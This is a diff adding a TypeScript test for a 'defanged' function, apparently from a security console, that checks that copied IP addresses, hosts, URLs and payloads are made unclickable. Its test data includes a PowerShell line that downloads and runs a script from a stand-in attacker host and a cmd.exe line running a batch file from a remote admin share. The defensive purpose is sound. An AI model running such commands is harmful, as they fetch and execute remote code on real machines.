@@ -1,0 +1,19 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { defanged } from '../../console/kit/visible.ts';
+
+test('SETTLED G15 what is copied defanged leads nowhere: hosts and addresses whole, in other texts those that could be reached', () => {
+  const cases: readonly (readonly [kind: string, text: string, copied: string])[] = [
+    ['address', '10.20.1.32', '10[.]20[.]1[.]32'],
+    ['address', 'fe80::1', 'fe80[:][:]1'],
+    ['host', 'ws-07.corp.example', 'ws-07[.]corp[.]example'],
+    ['domain', 'evil.example', 'evil[.]example'],
+    ['url', 'https://evil.example:8443/a.b?c=d.e', 'hxxps://evil[.]example[:]8443/a.b?c=d.e'],
+    ['url', 'ftp://10.1.2.3/x.exe', 'fxp://10[.]1[.]2[.]3/x.exe'],
+    ['payload', "IEX (iwr 'http://evil.example/a.ps1')", "IEX (iwr 'hxxp://evil[.]example/a.ps1')"],
+    ['payload', 'cmd.exe /c \\\\10.1.2.3\\c$\\a.bat 1.2', 'cmd.exe /c \\\\10[.]1[.]2[.]3\\c$\\a.bat 1.2'],
+    ['account', 'CORP\\svc.deploy', 'CORP\\svc.deploy'],
+    ['hash', 'SHA256=00AA', 'SHA256=00AA'],
+  ];
+  for (const [kind, text, copied] of cases) assert.equal(defanged(kind, text), copied);
+});
